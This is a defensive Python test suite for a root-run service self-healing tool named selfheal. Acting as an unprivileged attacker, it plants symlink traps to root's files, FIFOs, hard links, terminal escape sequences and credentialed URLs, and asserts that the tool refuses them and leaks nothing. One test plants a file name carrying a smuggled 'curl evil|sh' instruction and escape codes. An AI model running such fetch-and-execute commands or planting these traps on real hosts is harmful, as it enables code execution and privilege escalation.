"""The trust boundary, fast layer: root never acts through what a service's account controls,
and never leaks what it reads. Written as the attacker: the service's account (here `nobody`
when the tests run as root, else the test's own user, and a file of root's as the prize)
plants links, FIFOs and values; selfheal must refuse with a report that says so, change
nothing outside the service's own files, and write no secret anywhere.

The same vectors on a real systemd: tests/test_drill_trust.py.
"""

import hashlib
import http.server
import os
import pwd
import stat
import threading
import time

import pytest

import selfheal

pytestmark = pytest.mark.usefixtures("quiet_selfheal")

APP = "app.service"
ROOT = os.geteuid() == 0


# =============================================================================
# Helpers: the attacker's account and the prize
# =============================================================================


def attacker():
    """(uid, gid, name) of the account that owns the service's files."""
    if ROOT:
        nobody = pwd.getpwnam("nobody")
        return nobody.pw_uid, nobody.pw_gid, "nobody"
    return os.getuid(), os.getgid(), pwd.getpwuid(os.getuid()).pw_name


def own(path, follow=False):
    uid, gid, _ = attacker()
    if ROOT:
        (os.chown if follow else os.lchown)(str(path), uid, gid)


@pytest.fixture
def app_dir(tmp_path):
    """tmp/app: the service's own directory, owned by its account (0755)."""
    base = tmp_path / "app"
    base.mkdir()
    base.chmod(0o755)
    own(base)
    return base


@pytest.fixture
def prize(tmp_path):
    """A file that is not the attacker's: root's own 0600 file when we are root, else a
    file of root's everybody can read (/etc/passwd), which a non-root run cannot change."""
    if ROOT:
        vault = tmp_path / "vault"
        vault.mkdir(mode=0o700)
        target = vault / "secret"
        target.write_text("MARKER_ROOTFILE_7f3a=1\nBAD-NAME=MARKER_ROOTFILE_7f3a\n")
        target.chmod(0o600)
        return target
    return selfheal.Path("/etc/passwd")


def fingerprint(path):
    st = os.stat(str(path))
    return (st.st_uid, st.st_gid, stat.S_IMODE(st.st_mode), st.st_size, st.st_mtime_ns, open(str(path), "rb").read())


def plant_link(path, target):
    os.symlink(str(target), str(path))
    own(path)


def add_services(bed, text):
    with open(bed.config_path, "a", encoding="utf-8") as handle:
        handle.write("\n" + text)
    bed.config = selfheal.load_config(bed.config_path, trusted=False)


def body_of(bed, index=0):
    return bed.sink.messages[index].get_content()


def restarts(bed):
    return [c for c in bed.host.actions() if c[:2] == ["systemctl", "restart"]]


def everything_written(bed):
    """Every file selfheal wrote (state, run, logs) with its mode: {path: (mode, text)}."""
    found = {}
    for base in (bed.paths.state, bed.paths.run, bed.paths.logs):
        for path in base.rglob("*") if base.is_dir() else ():
            if path.is_file() and not path.is_symlink():
                found[str(path)] = (stat.S_IMODE(path.stat().st_mode), path.read_text("utf-8", "replace"))
    return found


def assert_nowhere(bed, marker, mail_too=True):
    for path, (mode, text) in everything_written(bed).items():
        if mode & 0o004 or mail_too:
            assert marker not in text, "%s (mode %04o) holds %s:\n%s" % (path, mode, marker, text)
    if mail_too:
        for msg in bed.sink.messages:
            assert marker not in msg.as_string(), msg.as_string()


# =============================================================================
# open_safely: the one way to a service's file, as a table
# =============================================================================


def _regular(app, prize):
    (app / "env").write_text("A=1\n")
    own(app / "env")
    return app / "env"


def _link_to_prize(app, prize):
    plant_link(app / "env", prize)
    return app / "env"


def _dir_above_is_link(app, prize):
    plant_link(app / "data", prize.parent)
    return app / "data" / prize.name


def _link_to_own_file(app, prize):
    (app / "real.env").write_text("A=1\n")
    own(app / "real.env")
    plant_link(app / "env", app / "real.env")
    return app / "env"


def _relative_own_link(app, prize):
    (app / "releases").mkdir()
    own(app / "releases")
    (app / "releases" / "env").write_text("A=1\n")
    own(app / "releases" / "env")
    plant_link(app / "current", "releases")
    return app / "current" / "env"


def _fifo(app, prize):
    os.mkfifo(str(app / "env"))
    own(app / "env")
    return app / "env"


def _link_to_dev_zero(app, prize):
    plant_link(app / "env", "/dev/zero")
    return app / "env"


def _device(app, prize):
    return selfheal.Path("/dev/null")


def _huge(app, prize):
    with open(str(app / "env"), "wb") as handle:
        handle.truncate(selfheal.SAFE_READ_LIMIT + 1)
    own(app / "env")
    return app / "env"


def _link_loop(app, prize):
    plant_link(app / "a", app / "b")
    plant_link(app / "b", app / "a")
    return app / "a"


def _file_in_the_middle(app, prize):
    (app / "env").write_text("A=1\n")
    own(app / "env")
    return app / "env" / "more"


def _dotdot_out_of_own_link(app, prize):
    (app / "sub").mkdir()
    own(app / "sub")
    plant_link(app / "sub" / "up", prize.parent)
    return app / "sub" / "up" / ".." / prize.parent.name / prize.name


SAFE_OPEN = [
    pytest.param(_regular, "file", "A=1\n", id="own-regular-file-read"),
    pytest.param(_link_to_own_file, "file", "A=1\n", id="own-link-to-own-file-followed"),
    pytest.param(_relative_own_link, "file", "A=1\n", id="own-relative-dir-link-followed"),
    pytest.param(_link_to_prize, "file", "is a symlink owned by {user} (or reached through one) that leads to",
                 id="link-to-a-file-not-its-own-refused"),
    pytest.param(_dir_above_is_link, "file", "is a symlink owned by {user} (or reached through one) that leads to",
                 id="directory-above-replaced-by-link-refused"),
    pytest.param(_fifo, "file", "is a FIFO, not a regular file: not read", id="fifo-refused-without-blocking"),
    pytest.param(_link_to_dev_zero, "file", "leads to /dev/zero", id="link-to-dev-zero-refused"),
    pytest.param(_device, "file", "is a character device, not a regular file", id="device-refused"),
    pytest.param(_huge, "file", "larger than the 1.0 MiB selfheal reads: not read", id="huge-file-not-read"),
    pytest.param(_link_loop, "file", "more than 40 symlinks: not followed", id="link-loop-refused"),
    pytest.param(_file_in_the_middle, "file", "is a regular file, not a directory: not followed",
                 id="file-where-a-directory-belongs-refused"),
    pytest.param(_dotdot_out_of_own_link, "file", "not followed", id="dotdot-after-own-link-refused"),
]


@pytest.mark.parametrize("make, want, expected", SAFE_OPEN)
def test_read_safely_follows_only_links_that_cannot_be_traps(app_dir, prize, make, want, expected):
    path = make(app_dir, prize)
    before = fingerprint(prize)
    started = time.monotonic()
    if "not " not in expected and "leads" not in expected:
        text, st = selfheal.read_safely(str(path), "env_file")
        assert text == expected
        assert stat.S_ISREG(st.st_mode)
    else:
        with pytest.raises(selfheal.Refused) as refused:
            selfheal.read_safely(str(path), "env_file")
        message = str(refused.value)
        assert message.startswith("env_file %s" % path), message
        assert expected.format(user=attacker()[2]) in message, message
    assert time.monotonic() - started < 2.0  # a FIFO or /dev/zero never holds it
    assert fingerprint(prize) == before


@pytest.mark.skipif(not ROOT, reason="links of two users and root-owned trusted links need root")
def test_root_link_in_a_root_directory_is_followed_and_a_chain_of_two_users_is_not(tmp_path, app_dir):
    etc = tmp_path / "etc"
    etc.mkdir(mode=0o755)
    (etc / "real.conf").write_text("ok\n")
    os.symlink(str(etc / "real.conf"), str(etc / "enabled.conf"))  # root's, as Debian's nginx sites
    assert selfheal.read_safely(str(etc / "enabled.conf"), "config_files")[0] == "ok\n"
    # Another user's link, then the attacker's: refused even though the end is the attacker's.
    other = tmp_path / "other"
    other.mkdir(mode=0o755)
    os.chown(str(other), 1, 1)
    (app_dir / "f").write_text("x\n")
    own(app_dir / "f")
    os.symlink(str(app_dir / "f"), str(other / "hop"))
    os.lchown(str(other / "hop"), 1, 1)
    plant_link(app_dir / "start", other / "hop")
    with pytest.raises(selfheal.Refused, match="after a link of another user: not followed"):
        selfheal.read_safely(str(app_dir / "start"), "config_files")
    # A root link in a directory the attacker may write is not trusted blindly.
    os.symlink(str(etc / "real.conf"), str(app_dir / "rootlink"))
    with pytest.raises(selfheal.Refused, match="not followed"):
        selfheal.read_safely(str(app_dir / "rootlink"), "config_files")


# =============================================================================
# The heal, as the attacker plays it
# =============================================================================


def test_db_path_symlink_to_a_file_not_its_own_fails_and_the_file_keeps_owner_and_mode(bed, app_dir, prize):
    plant_link(app_dir / "app.db", prize)
    before = fingerprint(prize)
    add_services(bed, "[app]\nstrategies = database_check, service_restart\ndb_path = %s\n"
                      "db_owner = %s\ndb_mode = 0666\n" % (app_dir / "app.db", attacker()[2]))
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    assert fingerprint(prize) == before
    assert restarts(bed) == []
    body = body_of(bed)
    assert "FAILED" in str(bed.sink.messages[0]["Subject"])
    assert "db_path %s is a symlink owned by %s" % (app_dir / "app.db", attacker()[2]) in body
    assert "not followed" in body and "nothing was changed through it" in body
    assert "namei -l %s" % (app_dir / "app.db") in body  # a manual step


def test_db_path_below_a_directory_replaced_by_a_link_fails_and_nothing_changes(bed, app_dir, prize):
    plant_link(app_dir / "data", prize.parent)
    before = fingerprint(prize)
    add_services(bed, "[app]\nstrategies = database_check, service_restart\ndb_path = %s\n"
                      "db_owner = %s\ndb_mode = 0666\n" % (app_dir / "data" / prize.name, attacker()[2]))
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    assert fingerprint(prize) == before
    assert restarts(bed) == []
    assert "not followed" in body_of(bed)


@pytest.mark.skipif(not ROOT, reason="a second hard link to root's file is made as root here")
def test_db_path_with_a_second_hard_link_keeps_its_owner_and_mode(bed, app_dir, tmp_path):
    vault = tmp_path / "vault2"
    vault.mkdir(mode=0o755)
    target = vault / "root.db"
    target.write_text("x")
    target.chmod(0o600)
    os.link(str(target), str(app_dir / "app.db"))  # as if fs.protected_hardlinks were 0
    before = fingerprint(target)
    add_services(bed, "[app]\nstrategies = database_check, service_restart\ndb_path = %s\n"
                      "db_owner = nobody\ndb_mode = 0666\n" % (app_dir / "app.db"))
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    assert fingerprint(target) == before
    assert "has 2 hard links" in body_of(bed)


def test_declared_symlink_is_not_recreated_through_a_directory_link(bed, app_dir, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    real = tmp_path / "real.db"
    real.write_text("x")
    plant_link(app_dir / "shared", elsewhere)  # the account redirects the link's directory
    add_services(bed, "[app]\nstrategies = database_check, service_restart\nsymlinks = %s -> %s\n"
                      % (app_dir / "shared" / "current.db", real))
    bed.host.failed(APP)
    rc, _ = bed.heal("app")
    if ROOT:  # elsewhere is root's: the account's link to it is not followed
        assert rc == 1
        assert not (elsewhere / "current.db").exists()
        assert "symlinks %s" % (app_dir / "shared") in body_of(bed) and "not followed" in body_of(bed)
    else:  # every file is the test user's: the link leads to its own directory, allowed
        assert (elsewhere / "current.db").is_symlink()


def test_env_file_linked_to_a_root_file_is_not_read_and_no_byte_of_it_leaves(bed, app_dir, prize):
    plant_link(app_dir / "env", prize)
    add_services(bed, "[app]\nstrategies = environment_check, service_restart\nenv_file = %s\n" % (app_dir / "env"))
    bed.host.failed(APP, EnvironmentFiles="%s (ignore_errors=no)" % (app_dir / "env"))
    assert bed.heal("app")[0] == 1
    assert restarts(bed) == []
    body = body_of(bed)
    assert "env_file %s is a symlink owned by %s" % (app_dir / "env", attacker()[2]) in body
    assert "not followed" in body
    assert_nowhere(bed, "MARKER_ROOTFILE_7f3a" if ROOT else "root:x:0:0")


def test_env_file_values_and_misspelt_secret_lines_are_never_quoted(bed, app_dir):
    env = app_dir / "env"
    env.write_text("LOG=1\nSTRIPE-KEY=sk_live_MARKER_ENVVAL_91\nDB_PASSWORD=MARKER_ENVVAL2_91\nAPI_KEY=\n")
    env.chmod(0o644)
    own(env)
    add_services(bed, "[app]\nstrategies = environment_check, service_restart\nenv_file = %s\n"
                      "required_env = API_KEY\n" % env)
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    body = body_of(bed)
    assert "%s: line 2: not NAME=value" % env in body
    assert "%s:4: API_KEY is empty" % env in body
    assert "DB_PASSWORD" in body  # named (world-readable and a secret), never its value
    for marker in ("MARKER_ENVVAL_91", "MARKER_ENVVAL2_91", "sk_live"):
        assert_nowhere(bed, marker)


def test_config_file_that_is_a_fifo_is_refused_at_once_and_the_heal_fails(bed, app_dir):
    fifo = app_dir / "app.conf"
    os.mkfifo(str(fifo))
    own(fifo)
    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n" % fifo)
    bed.host.failed(APP)
    started = time.monotonic()
    assert bed.heal("app")[0] == 1
    assert time.monotonic() - started < 10
    assert "config_files %s: it is a FIFO, not a regular file: not read" % fifo in body_of(bed)
    assert restarts(bed) == []


def test_config_file_linked_to_a_root_file_is_neither_read_nor_checked(bed, app_dir, prize, tmp_path):
    plant_link(app_dir / "app.conf", prize)
    checker = tmp_path / "check.sh"
    checker.write_text("#!/bin/sh\necho CHECKER-RAN; cat \"$1\"\n")
    checker.chmod(0o755)
    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n"
                      "config_check = %s %s\n" % (app_dir / "app.conf", checker, app_dir / "app.conf"))
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    body = body_of(bed)
    assert "CHECKER-RAN" not in body and "not followed" in body
    assert "Neither the config check nor a restart was run." in body
    assert_nowhere(bed, "MARKER_ROOTFILE_7f3a" if ROOT else "root:x:0:0")


def test_journal_lines_and_escapes_reach_the_owner_cleaned_and_no_world_readable_file(bed):
    add_services(bed, "[app]\nstrategies = service_restart\n")
    bed.host.failed(APP)
    bed.host.journal(["app[1]: MARKER_JOURNAL_55 \x1b]0;pwned\x07\x1b[2J see http://u:MARKER_URLPW_55@h/x"],
                     invocation=hashlib.md5(APP.encode()).hexdigest())
    assert bed.heal("app")[0] == 0
    mail = bed.sink.messages[0].as_string()
    body = body_of(bed)
    assert "MARKER_JOURNAL_55" in body  # the owner gets the journal excerpt
    assert "\x1b" not in body and "\x07" not in body and "\\x1b]0;pwned\\x07" in body
    assert "MARKER_URLPW_55" not in mail
    for path, (mode, text) in everything_written(bed).items():
        if "MARKER_JOURNAL_55" in text:
            assert not mode & 0o004, "%s (mode %04o) holds journal lines" % (path, mode)
        assert "\x1b" not in text and "MARKER_URLPW_55" not in text, path
    log = bed.paths.service_log("app")
    assert stat.S_IMODE(log.stat().st_mode) == 0o640


# =============================================================================
# URLs with credentials and health replies
# =============================================================================


class _AuthHandler(http.server.BaseHTTPRequestHandler):
    seen = []

    def do_GET(self):
        _AuthHandler.seen.append(self.headers.get("Authorization", ""))
        if self.path == "/weird":
            self.wfile.write(b"HTTP/1.1 \x1b[2J\x1b]0;pwned\x07 500\r\n\r\n")
            return
        ok = self.headers.get("Authorization") == "Basic d2F0Y2g6czNjcmV0"  # watch:s3cret
        self.send_response(200 if ok else 401)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def auth_server():
    server = http.server.HTTPServer(("127.0.0.1", 0), _AuthHandler)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True)
    thread.start()
    _AuthHandler.seen = []
    yield server.server_address[1]
    server.shutdown()
    server.server_close()


def test_health_url_credentials_are_sent_as_basic_auth_and_never_shown(auth_server):
    url = "http://watch:s3cret@127.0.0.1:%d/health" % auth_server
    ok, detail = selfheal.http_check(url, 3.0)
    assert (ok, detail) == (True, "HTTP 200")
    assert _AuthHandler.seen == ["Basic d2F0Y2g6czNjcmV0"]
    assert selfheal.display_url(url) == "http://***@127.0.0.1:%d/health" % auth_server


def test_health_reply_with_terminal_escapes_is_reported_escaped(auth_server):
    ok, detail = selfheal.http_check("http://127.0.0.1:%d/weird" % auth_server, 3.0)
    assert not ok
    assert "\x1b" not in detail and "\x07" not in detail
    assert "\\x1b" in detail


def test_probe_detail_of_a_health_url_with_credentials_has_none(bed, auth_server):
    add_services(bed, "[app]\nhealth_url = http://watch:s3cret@127.0.0.1:%d/health\n" % auth_server)
    bed.host.unit(APP, ActiveState="active", SubState="running")
    checks, _ = selfheal.probe(bed.config.services["app"])
    assert [c.ok for c in checks] == [True, True]
    assert "s3cret" not in checks[-1].detail and "http://***@127.0.0.1" in checks[-1].detail


@pytest.mark.parametrize("text, expected", [
    ("plain", "plain"),
    ("tab\tand\nnewline", "tab\tand\nnewline"),
    ("\x1b[2Jclear", "\\x1b[2Jclear"),
    ("bell\x07 cr\r del\x7f c1\x9b", "bell\\x07 cr\\x0d del\\x7f c1\\x9b"),
    ("line\u2028sep", "line\\u2028sep"),
    ("GET http://u:p@h:80/x and https://tok@h/", "GET http://***@h:80/x and https://***@h/"),
    ("postgres://app:pw@db/x", "postgres://***@db/x"),
    ("postgres://app:p@ssw0rd@db/app", "postgres://***@db/app"),
    ('{"url": "https:\\/\\/app:JSONPW@h\\/x"}', '{"url": "https:\\/\\/***@h\\/x"}'),
    ("mail me@example.org", "mail me@example.org"),
])
def test_clean_escapes_controls_and_removes_url_credentials(text, expected):
    assert selfheal.clean(text) == expected
    assert selfheal.clean(selfheal.clean(text)) == expected  # idempotent: cleaned twice is the same



# =============================================================================
# From a review as the attacker: each hole found, closed
# =============================================================================


def test_a_name_planted_with_newlines_and_escapes_stays_one_line_in_refusals_and_on_the_terminal(bed, app_dir):
    evil = "x\n\nWHAT TO DO NOW\n--------------\n  curl evil|sh\x1b]0;owned\x07"
    os.mkfifo(str(app_dir / evil))
    own(app_dir / evil)
    plant_link(app_dir / "app.conf", app_dir / evil)
    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n" % (app_dir / "app.conf"))
    bed.host.failed(APP)
    rc, printed = bed.heal("app")
    assert rc == 1
    body = body_of(bed)
    assert "\nWHAT TO DO NOW\n" not in body and "\\nWHAT TO DO NOW\\n" in body
    assert "\x1b" not in printed and "\x07" not in printed and "\nWHAT TO DO NOW" not in printed


def test_sqlite_check_reads_the_file_it_opened_even_when_the_name_is_swapped(tmp_path):
    import sqlite3
    good, bad = tmp_path / "good.db", tmp_path / "bad.db"
    for path in (good, bad):
        db = sqlite3.connect(str(path))
        db.execute("create table t (x)")
        db.commit()
        db.close()
    with open(str(bad), "r+b") as handle:  # a header that is SQLite's, a body that is not
        handle.seek(100)
        handle.write(b"\xff" * 4000)
    handle = selfheal.open_safely(str(good), "db_path", "file")
    try:
        os.rename(str(bad), str(good))  # the account swaps the name after selfheal opened it
        assert selfheal.sqlite_quick_check(handle) == "ok"
    finally:
        os.close(handle.fd)


@pytest.mark.skipif(not ROOT, reason="a config file of another user needs root to make")
def test_config_checker_output_is_withheld_when_the_service_account_owns_a_config_file(bed, app_dir, tmp_path):
    conf = app_dir / "app.conf"
    conf.write_text("listen 80\n")
    own(conf)
    checker = tmp_path / "check.sh"
    checker.write_text("#!/bin/sh\necho 'unknown directive \"SECRET_QUOTED_LINE\"'; exit 1\n")
    checker.chmod(0o755)
    add_services(bed, "[app]\nstrategies = config_validation, service_restart\nconfig_files = %s\n"
                      "config_check = %s\n" % (conf, checker))
    bed.host.failed(APP)
    assert bed.heal("app")[0] == 1
    body = body_of(bed)
    assert "SECRET_QUOTED_LINE" not in body
    assert "its output is not shown: %s is the service account's" % conf in body
    assert "failed (exit status 1)" in body


def test_the_public_config_keeps_no_secret_however_the_key_is_spelt():
    text = ("[selfheal]\nemail_to = a@b.c\nWebhook_URL = https://hooks.example.org/HOOKSECRET1\n"
            "heartbeat_url: https://hc.example.org/HOOKSECRET2\n\n[web]\nport = 80\nhealth_url =\n"
            "  http://u:HOOKSECRET3@127.0.0.1/health?key=HOOKSECRET4\n"
            "\n[redis]\nport = 6379\nhealth_command = /usr/bin/redis-cli -a HOOKSECRET5 ping\n")
    public = selfheal.public_config_text(text)
    assert "HOOKSECRET" not in public, public
    config = selfheal.parse_config(public, "public")
    assert list(config.services) == ["web", "redis"]


def test_hostile_env_and_config_files_cannot_make_a_heal_burn_cpu(bed, app_dir):
    started = time.monotonic()
    names, problems = selfheal.parse_env_file('A="x' + "\n" * 300000)
    assert time.monotonic() - started < 2.0
    assert problems == ["line 1: A: the quote is not closed"]
